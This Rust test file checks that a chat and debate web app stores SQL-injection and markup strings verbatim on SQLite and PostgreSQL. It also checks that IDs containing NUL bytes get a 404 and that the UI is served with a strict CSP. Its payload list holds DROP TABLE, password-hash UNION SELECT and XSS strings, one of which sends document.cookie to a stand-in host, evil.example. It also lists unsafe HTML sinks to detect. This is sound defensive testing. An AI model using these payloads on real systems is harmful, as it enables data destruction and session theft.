//! Injection: SQL metacharacters and markup in every text field are data, stored and returned
//! verbatim on SQLite and PostgreSQL (and the UI's CSP forbids inline script, so text stays
//! text); odd bytes in IDs are a 404, never a database error.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::support::{TestApp, TestUser, spawn_app, spawn_app_with, spawn_pg_app_with};

/// Strings that break a query built by concatenation, or run in a page that renders HTML.
pub(super) const PAYLOADS: &[&str] = &[
    "'; DROP TABLE messages; --",
    "\" OR \"1\"=\"1",
    "' OR '1'='1' --",
    "1); DELETE FROM users WHERE (1=1",
    "Robert'); DROP TABLE threads;--",
    "' UNION SELECT password_hash, username FROM users --",
    "%_%\\%",
    "\\'; SELECT pg_sleep(5); --",
    "$1 $2 ?1 :name @p",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil.example/'+document.cookie)\">",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "</textarea></title><!--",
];

#[tokio::test]
async fn sql_metacharacters_and_markup_in_every_text_field_are_stored_and_returned_verbatim() {
    // Four debates run at once below; the per-user agent stream limit is not under test here.
    injection_story(spawn_app_with(|s| s.limits.agent_streams_per_user = 16).await).await;
}

#[tokio::test]
async fn sql_metacharacters_and_markup_are_stored_and_returned_verbatim_on_postgresql_too() {
    injection_story(spawn_pg_app_with(|s| s.limits.agent_streams_per_user = 16).await).await;
}

/// Every text field, filled with [`PAYLOADS`], on one backend.
pub(super) async fn injection_story(app: TestApp) {
    let alice = app.register("alice").await;
    let bob = app.register("bob").await;
    let bobs = app.create_thread(&bob, "bob's own").await;
    let bob_msg = app
        .post(
            &format!("/api/threads/{bobs}/messages"),
            Some(&bob.token),
            json!({"client_id": "b1", "body": "bob's message"}),
        )
        .await;
    assert_eq!(bob_msg.status(), 201);

    // Thread titles.
    let mut threads = Vec::new();
    for p in PAYLOADS {
        let r = app
            .post("/api/threads", Some(&alice.token), json!({"title": p}))
            .await;
        assert_eq!(r.status(), 201, "{p}");
        let t: Value = r.json().await.unwrap();
        assert_eq!(t["title"], *p);
        assert!(
            r_content_type_is_json(&app, &alice, t["id"].as_str().unwrap()).await,
            "API answers are JSON, never HTML"
        );
        threads.push(t["id"].as_str().unwrap().to_string());
    }
    for (id, p) in threads.iter().zip(PAYLOADS) {
        let t: Value = app
            .get(&format!("/api/threads/{id}"), Some(&alice.token))
            .await
            .json()
            .await
            .unwrap();
        assert_eq!(t["title"], *p);
    }
    let list: Value = app
        .get("/api/threads", Some(&alice.token))
        .await
        .json()
        .await
        .unwrap();
    assert_eq!(list["threads"].as_array().unwrap().len(), PAYLOADS.len());

    // Message bodies and client ids (every payload is printable ASCII), over HTTP and WS, with a
    // subscriber watching.
    let thread = threads[0].clone();
    let mut watcher = app.ws(&alice).await;
    watcher.subscribe(&thread, None).await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{thread}/messages"),
                Some(&alice.token),
                json!({"client_id": p, "body": p}),
            )
            .await;
        assert_eq!(r.status(), 201, "{p}");
        let m: Value = r.json().await.unwrap();
        assert_eq!(
            (m["body"].as_str(), m["client_id"].as_str()),
            (Some(*p), Some(*p))
        );
        assert_eq!(m["seq"], i as i64 + 1);
        let live = watcher.recv_type("message").await;
        assert_eq!(
            (live["body"].as_str(), live["client_id"].as_str()),
            (Some(*p), Some(*p))
        );
    }
    // The same client ids again: the original messages (an exact match, never a LIKE).
    for (i, p) in PAYLOADS.iter().enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{thread}/messages"),
                Some(&alice.token),
                json!({"client_id": p, "body": "a different body"}),
            )
            .await;
        assert_eq!(r.status(), 200, "{p}");
        let m: Value = r.json().await.unwrap();
        assert_eq!(
            (m["seq"].as_i64(), m["body"].as_str()),
            (Some(i as i64 + 1), Some(*p))
        );
    }
    let mut ws = app.ws(&alice).await;
    for (i, p) in PAYLOADS.iter().enumerate() {
        let cid = format!("ws-{i}-{p}");
        ws.send_message(&thread, &cid, p).await;
        let ack = ws.recv_type("ack").await;
        assert_eq!(
            (ack["client_id"].as_str(), ack["status"].as_str()),
            (Some(cid.as_str()), Some("persisted"))
        );
    }
    let stored = app.messages(&alice, &thread, "?limit=500").await;
    assert_eq!(stored.len(), 2 * PAYLOADS.len());
    for (m, p) in stored.iter().zip(PAYLOADS.iter().chain(PAYLOADS.iter())) {
        assert_eq!(m["body"], *p);
    }

    // Debate topics (HTTP and WS).
    let debate_thread = threads[1].clone();
    for (i, p) in PAYLOADS.iter().take(3).enumerate() {
        let r = app
            .post(
                &format!("/api/threads/{debate_thread}/debate"),
                Some(&alice.token),
                json!({"client_id": format!("debate-{i}"), "topic": p, "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await;
        assert_eq!(r.status(), 202, "{p}");
    }
    ws.send(
        json!({"type": "debate", "thread": debate_thread, "client_id": "ws-debate",
                   "topic": PAYLOADS[4], "agents": ["anima", "neo"], "rounds": 1}),
    )
    .await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let topics: Vec<Value> = app
            .messages(&alice, &debate_thread, "?limit=500")
            .await
            .into_iter()
            .filter(|m| m["author"]["kind"] == "user")
            .collect();
        if topics.len() == 4 {
            for (m, p) in topics
                .iter()
                .zip([PAYLOADS[0], PAYLOADS[1], PAYLOADS[2], PAYLOADS[4]])
            {
                assert_eq!(m["body"], p);
            }
            break;
        }
        assert!(
            Instant::now() < deadline,
            "debate topics were not all stored: {topics:?}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // Usernames: the charset keeps quotes out; LIKE wildcards that are allowed match literally.
    for bad in ["alice'--", "' OR '1'='1", "a\"b", "<script>", "a;b", "a%b"] {
        let r = app
            .post(
                "/api/auth/register",
                None,
                json!({"username": bad, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 422, "{bad}");
        let r = app
            .post(
                "/api/auth/login",
                None,
                json!({"username": bad, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 401, "{bad}");
    }
    let underscored = app.register("a_ice").await;
    assert_ne!(
        underscored.id, alice.id,
        "'_' is a character, not a wildcard"
    );
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "a_ice", "password": "correct horse battery"}),
        )
        .await;
    assert_eq!(
        r.json::<Value>().await.unwrap()["user"]["id"],
        underscored.id.as_str()
    );
    let r = app
        .post(
            "/api/auth/login",
            None,
            json!({"username": "al_ce", "password": "correct horse battery"}),
        )
        .await;
    assert_eq!(r.status(), 401, "no wildcard match of alice");
    let r = app
        .post(
            &format!("/api/threads/{thread}/members"),
            Some(&alice.token),
            json!({"username": "b_b"}),
        )
        .await;
    assert_eq!(r.status(), 404, "'b_b' is not bob");

    // Nothing else was touched: bob's thread and message, and every account, are intact.
    let bobs_msgs = app.messages(&bob, &bobs, "").await;
    assert_eq!(bobs_msgs.len(), 1);
    assert_eq!(bobs_msgs[0]["body"], "bob's message");
    for name in ["alice", "bob"] {
        let r = app
            .post(
                "/api/auth/login",
                None,
                json!({"username": name, "password": "correct horse battery"}),
            )
            .await;
        assert_eq!(r.status(), 200, "{name} can still log in");
    }
}

#[tokio::test]
async fn ids_with_nul_and_other_odd_bytes_get_404_not_a_database_error_on_postgresql() {
    // PostgreSQL refuses NUL in text parameters; an ID is attacker-chosen text that reaches a
    // query, so the answer must still be the contract's 404 (never 500, never "database down").
    let app = spawn_pg_app_with(|_| {}).await;
    let owner = app.register("owner").await;
    let stranger = app.register("stranger").await;
    let thread = app.create_thread(&owner, "secret").await;
    let not_found = json!({"error": {"code": "not_found", "message": "not found"}});
    // One request from a stranger must not take the database away from everybody else.
    let first = app.get("/api/threads/%00", Some(&stranger.token)).await;
    let first_status = first.status().as_u16();
    let ready: Value = app.get("/readyz", None).await.json().await.unwrap();
    let owners = app.get("/api/threads", Some(&owner.token)).await.status();
    assert_eq!(
        (ready["db"].as_str(), owners.as_u16()),
        (Some("up"), 200),
        "after one GET /api/threads/%00 (answered {first_status}): readyz {ready}"
    );
    for id in [
        "%00",
        "a%00b",
        &format!("{thread}%00"),
        "%C0%80",
        "%27%00%27",
    ] {
        let checks = [
            app.get(&format!("/api/threads/{id}"), Some(&stranger.token))
                .await,
            app.get(&format!("/api/threads/{id}/messages"), Some(&owner.token))
                .await,
            app.post(
                &format!("/api/threads/{id}/messages"),
                Some(&owner.token),
                json!({"client_id": "x", "body": "hi"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/members"),
                Some(&owner.token),
                json!({"username": "stranger"}),
            )
            .await,
            app.post(
                &format!("/api/threads/{id}/debate"),
                Some(&owner.token),
                json!({"client_id": "d", "topic": "t", "agents": ["anima", "neo"], "rounds": 1}),
            )
            .await,
        ];
        for r in checks {
            let url = r.url().path().to_string();
            let status = r.status().as_u16();
            let body: Value = r.json().await.unwrap_or(Value::Null);
            assert_eq!((status, &body), (404, &not_found), "{url}");
        }
    }
    let mut ws = app.ws(&owner).await;
    for frame in [
        json!({"type": "subscribe", "thread": "\u{0}", "after_seq": 0}),
        json!({"type": "subscribe", "thread": format!("{thread}\u{0}")}),
        json!({"type": "send", "thread": "a\u{0}b", "client_id": "c", "body": "hi"}),
        json!({"type": "debate", "thread": "\u{0}", "client_id": "d", "topic": "t",
               "agents": ["anima", "neo"], "rounds": 1}),
        json!({"type": "cancel", "stream_id": "\u{0}"}),
    ] {
        ws.send(frame.clone()).await;
        let e = ws.recv().await.expect("an answer");
        assert_eq!(
            (e["type"].as_str(), e["code"].as_str()),
            (Some("error"), Some("not_found")),
            "{frame}: {e}"
        );
    }
    // The database is still up and the owner's thread is intact.
    let r = app.get("/readyz", None).await;
    assert_eq!(r.json::<Value>().await.unwrap()["db"], "up");
    assert_eq!(
        app.get(&format!("/api/threads/{thread}"), Some(&owner.token))
            .await
            .status(),
        200
    );
}

pub(super) async fn r_content_type_is_json(app: &TestApp, user: &TestUser, thread: &str) -> bool {
    let r = app
        .get(&format!("/api/threads/{thread}"), Some(&user.token))
        .await;
    r.headers()
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .is_some_and(|v| v.starts_with("application/json"))
}

#[tokio::test]
async fn the_ui_is_served_with_a_csp_that_forbids_inline_script_and_renders_text_as_text() {
    let app = spawn_app().await;
    let r = app.get("/", None).await;
    assert_eq!(r.status(), 200);
    let csp = r
        .headers()
        .get("content-security-policy")
        .expect("the UI has a Content-Security-Policy")
        .to_str()
        .unwrap()
        .to_string();
    let script_src = csp
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("script-src"))
        .unwrap_or_else(|| panic!("no script-src in {csp}"));
    assert!(!script_src.contains("unsafe-inline"), "{csp}");
    assert!(!script_src.contains("unsafe-eval"), "{csp}");
    assert!(!script_src.contains('*'), "{csp}");
    assert!(csp.contains("object-src 'none'"), "{csp}");
    assert!(csp.contains("frame-ancestors 'none'"), "{csp}");
    assert_eq!(r.headers()["x-frame-options"], "DENY");
    assert_eq!(r.headers()["x-content-type-options"], "nosniff");
    let html = r.text().await.unwrap();
    assert!(
        !html.contains("<script>") && !html.to_lowercase().contains("onload="),
        "no inline script in the shell"
    );
    // The UI source never hands text to an HTML sink, in any folder: Markdown becomes DOM only
    // through the sanitiser (web/src/markdown/sanitize.ts), which returns a document fragment.
    let mut dirs = vec![std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("web/src")];
    let mut scanned = 0;
    while let Some(dir) = dirs.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                dirs.push(path);
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap_or_default();
            scanned += 1;
            for sink in [
                "innerHTML",
                "outerHTML",
                "insertAdjacentHTML",
                "dangerouslySetInnerHTML",
                "document.write",
                "eval(",
                "new Function(",
            ] {
                assert!(!text.contains(sink), "{} uses {sink}", path.display());
            }
        }
    }
    assert!(scanned > 0, "web/src was scanned");
}
